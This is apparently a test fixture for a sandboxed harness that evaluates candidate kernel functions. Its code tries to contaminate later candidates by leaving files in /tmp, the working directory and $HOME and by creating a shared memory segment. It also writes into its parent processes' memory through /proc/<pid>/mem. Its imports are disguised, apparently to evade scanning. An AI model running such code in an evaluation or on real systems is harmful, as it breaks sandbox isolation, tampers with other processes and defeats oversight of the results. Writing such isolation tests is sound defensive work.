"""Attack: leave something for the candidate checked next in the same worker — a file in the
sandbox's /tmp, the working directory and $HOME, a System V shared memory segment — and try to
change what the zygote that forked this child forks next, by writing its memory through /proc;
then say what it got."""

import typing

import jax

load = typing.sys.modules["importlib"].import_module
os = load("os")
ctypes = load("ctypes")
TARGETS = {}  # the test writes the canary here


def _ancestors():
    pid, found = os.getppid(), []
    while pid > 1:
        found.append(pid)
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rsplit(")", 1)[1].split()[1])
    return found


def _leave():
    outcome = {}
    for name, folder in (("tmp", "/tmp"), ("cwd", "."), ("home", os.environ.get("HOME", "."))):
        try:
            with open(os.path.join(folder, f"left-{name}"), "w") as left:
                left.write(TARGETS["canary"])
            outcome[name] = "written"
        except OSError as exc:
            outcome[name] = type(exc).__name__
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0x4E4D, 4096, 0o1666)  # IPC_CREAT | 0666
    outcome["shm"] = "made" if segment >= 0 else f"errno{ctypes.get_errno()}"
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/mem", "r+b") as memory:
                memory.seek(0x400000)
                memory.write(b"\xcc")
            outcome[f"mem{pid}"] = "written"
        except OSError as exc:
            outcome[f"mem{pid}"] = type(exc).__name__
    return outcome


def kernel(x):
    outcome = _leave()
    raise RuntimeError("ATTACK " + " ".join(f"{k}={v}" for k, v in outcome.items()))
    return jax.nn.softmax(x)
